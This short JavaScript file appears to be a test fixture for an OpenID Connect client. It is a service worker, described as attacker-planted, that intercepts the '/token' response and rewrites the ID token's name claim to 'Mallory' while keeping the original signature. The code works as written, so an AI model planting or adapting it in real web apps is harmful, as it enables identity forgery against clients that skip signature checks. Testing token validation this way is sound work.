// Script of the app's own origin that an attacker brought in: it answers the token request itself, with the server's
// answer and a name of its own in the ID token.

addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));

const encode = (value) => btoa(JSON.stringify(value)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
const decode = (part) => JSON.parse(atob(part.replaceAll('-', '+').replaceAll('_', '/')));

addEventListener('fetch', (event) => {
  if (!new URL(event.request.url).pathname.endsWith('/token')) return;
  event.respondWith((async () => {
    const answer = await (await fetch(event.request)).json();
    const [head, claims, signature] = answer.id_token.split('.');
    const id_token = [head, encode({ ...decode(claims), name: 'Mallory' }), signature].join('.');
    return new Response(JSON.stringify({ ...answer, id_token }), { headers: { 'Content-Type': 'application/json' } });
  })());
});
